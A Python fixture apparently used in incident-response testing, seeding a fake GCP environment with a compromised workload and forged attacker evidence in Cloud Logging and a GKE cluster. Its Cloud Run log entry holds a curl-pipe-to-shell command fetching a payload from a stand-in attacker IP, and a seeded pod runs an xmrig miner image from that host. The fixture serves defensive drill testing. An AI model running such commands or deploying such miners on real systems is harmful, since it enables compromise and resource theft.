"""The workload a GCP drill attacks, seeded into the local GCP fake before the stack is loaded:
a network the stack covers, an instance (two disks carrying the snapshot label, an external
address, a service account with a user-managed key), a Cloud Run service and a GKE cluster, with
what the attacker left in Cloud Logging and in the cluster."""

from __future__ import annotations

from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import Any

from prewire.core.gcp.kinds import COMPUTE
from prewire.drill.gcp.provision import NETWORK, SNAPSHOT_LABEL
from prewire.emulator.gcp import FakeGcp
from responders.gcp.cluster import CLUSTER_DIAGNOSTICS

ZONE = "europe-west1-b"
REGION = ZONE.rsplit("-", 1)[0]
GKE_COMPONENTS = ["SYSTEM_COMPONENTS", "APISERVER", "CONTROLLER_MANAGER", "SCHEDULER", "WORKLOADS"]
ATTACKER = "203.0.113.66"


@dataclass(frozen=True)
class GcpVictim:
    instance: str
    zone: str
    name: str
    network: str
    service_account: str
    disks: tuple[str, ...]
    run_service: str
    """A Cloud Run service of the workload (`projects/p/locations/l/services/s`)."""
    run_account: str
    cluster: str
    """A GKE cluster of the workload (`projects/p/locations/l/clusters/c`)."""


def seed_victim(fake: FakeGcp, drill: str) -> GcpVictim:
    network = f"projects/{fake.project}/global/networks/{NETWORK}"
    fake.listings.add(
        f"/compute/v1/projects/{fake.project}/global/networks",
        {"name": NETWORK, "selfLink": f"{COMPUTE}/{network}", "autoCreateSubnetworks": False},
    )
    name = f"web-{drill}"
    account = f"web-{drill}@{fake.project}.iam.gserviceaccount.com"
    fake.iam.add_account(account, user_keys=1)
    disks = (f"{name}-boot", f"{name}-data")
    for disk in disks:
        fake.compute.add_disk(ZONE, disk, labels=dict([SNAPSHOT_LABEL]))
    instance = fake.compute.add_instance(
        ZONE, name, network, tags=["http-server"], disk_names=disks, service_account=account
    )
    now = datetime.now(UTC)
    fake.logging.entries.append(
        {
            "logName": f"projects/{fake.project}/logs/cloudaudit.googleapis.com%2Factivity",
            "timestamp": (now - timedelta(minutes=25)).strftime("%Y-%m-%dT%H:%M:%SZ"),
            "resource": {"type": "gce_instance", "labels": {"instance_id": instance["id"]}},
            "protoPayload": {
                "methodName": "v1.compute.instances.setMetadata",
                "resourceName": f"projects/{fake.project}/zones/{ZONE}/instances/{name}",
                "authenticationInfo": {"principalEmail": account},
            },
        }
    )
    fake.logging.entries.append(_flow_record(fake.project, name, now - timedelta(minutes=20)))
    run_service, run_account = _seed_run_service(fake, drill, now)
    cluster = _seed_cluster(fake, drill, now)
    return GcpVictim(
        f"projects/{fake.project}/zones/{ZONE}/instances/{name}",
        ZONE,
        name,
        network,
        account,
        disks,
        run_service,
        run_account,
        cluster,
    )


def _flow_record(project: str, vm_name: str, when: datetime) -> dict[str, Any]:
    """A VPC flow record (the documented record format): the instance sending to the attacker."""
    stamp = when.strftime("%Y-%m-%dT%H:%M:%SZ")
    return {
        "logName": f"projects/{project}/logs/compute.googleapis.com%2Fvpc_flows",
        "timestamp": stamp,
        "resource": {
            "type": "gce_subnetwork",
            "labels": {"project_id": project, "subnetwork_name": NETWORK, "location": ZONE},
        },
        "jsonPayload": {
            "connection": {
                "src_ip": "10.10.0.5",
                "src_port": 49152,
                "dest_ip": ATTACKER,
                "dest_port": 4444,
                "protocol": 6,
            },
            "reporter": "SRC",
            "src_instance": {
                "project_id": project,
                "region": REGION,
                "zone": ZONE,
                "vm_name": vm_name,
            },
            "src_vpc": {"project_id": project, "vpc_name": NETWORK, "subnetwork_name": NETWORK},
            "bytes_sent": "48213",
            "packets_sent": "61",
            "start_time": stamp,
            "end_time": stamp,
        },
    }


def _seed_run_service(fake: FakeGcp, drill: str, now: datetime) -> tuple[str, str]:
    """A Cloud Run service whose container ran the attacker's command, and whose runtime account
    then read a bucket: what `preserve-service` must collect."""
    name, region = f"checkout-{drill}", REGION
    account = f"checkout-{drill}@{fake.project}.iam.gserviceaccount.com"
    service = fake.run.add_service(region, name, account)
    labels = {"service_name": name, "location": region, "revision_name": f"{name}-00001"}
    base = f"projects/{fake.project}/logs"
    fake.logging.entries += [
        {
            "logName": f"{base}/run.googleapis.com%2Fstdout",
            "timestamp": (now - timedelta(minutes=15)).strftime("%Y-%m-%dT%H:%M:%SZ"),
            "resource": {"type": "cloud_run_revision", "labels": labels},
            "textPayload": f"sh -c 'curl -s http://{ATTACKER}/m | sh'",
        },
        {
            "logName": f"{base}/cloudaudit.googleapis.com%2Fdata_access",
            "timestamp": (now - timedelta(minutes=14)).strftime("%Y-%m-%dT%H:%M:%SZ"),
            "resource": {"type": "gcs_bucket", "labels": {"bucket_name": "cards"}},
            "protoPayload": {
                "methodName": "storage.objects.get",
                "authenticationInfo": {"principalEmail": account},
            },
        },
    ]
    return str(service["name"]), account


def _seed_cluster(fake: FakeGcp, drill: str, now: datetime) -> str:
    """A GKE cluster (declared with the stack, so logging every component) running the
    attacker's pod, with the API server's audit entry of the exec into it."""
    name = f"apps-{drill}"
    assert fake.kubernetes.certificate is not None
    cluster = fake.gke.add_cluster(
        REGION, name, fake.kubernetes.endpoint, fake.kubernetes.certificate.read_bytes()
    )
    cluster["loggingConfig"]["componentConfig"]["enableComponents"] = list(GKE_COMPONENTS)
    attacker_pod: dict[str, Any] = {
        "metadata": {"name": "miner-5f4", "namespace": "default"},
        "spec": {"containers": [{"name": "xmrig", "image": f"{ATTACKER}:5000/xmrig"}]},
    }
    for kind, path in CLUSTER_DIAGNOSTICS:
        items = [attacker_pod] if kind == "pods" else []
        fake.gke.objects[path] = {"kind": "List", "items": items}
    fake.logging.entries.append(
        {
            "logName": f"projects/{fake.project}/logs/cloudaudit.googleapis.com%2Factivity",
            "timestamp": (now - timedelta(minutes=12)).strftime("%Y-%m-%dT%H:%M:%SZ"),
            "resource": {
                "type": "k8s_cluster",
                "labels": {"cluster_name": name, "location": REGION},
            },
            "protoPayload": {
                "methodName": "io.k8s.core.v1.pods.exec.create",
                "resourceName": "core/v1/namespaces/default/pods/miner-5f4/exec",
            },
        }
    )
    return f"projects/{fake.project}/locations/{REGION}/clusters/{name}"
